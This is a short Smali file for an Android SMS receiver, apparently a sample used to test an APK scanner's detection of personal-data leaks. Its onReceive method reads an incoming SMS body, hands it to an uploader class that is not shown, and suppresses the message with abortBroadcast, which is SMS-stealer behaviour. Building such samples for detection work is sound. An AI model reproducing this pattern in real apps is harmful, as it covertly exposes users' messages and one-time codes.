.class public Lorg/apkscan/sample/pii/receiver/SmsReceiver;
.super Landroid/content/BroadcastReceiver;
.source "SmsReceiver.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 5
    invoke-static {p2}, Landroid/provider/Telephony$Sms$Intents;->getMessagesFromIntent(Landroid/content/Intent;)[Landroid/telephony/SmsMessage;
    move-result-object v0
    const/4 v1, 0x0
    aget-object v0, v0, v1
    invoke-virtual {v0}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lorg/apkscan/sample/pii/net/Uploader;->upload(Ljava/lang/String;)V
    invoke-virtual {p0}, Lorg/apkscan/sample/pii/receiver/SmsReceiver;->abortBroadcast()V
    return-void
.end method
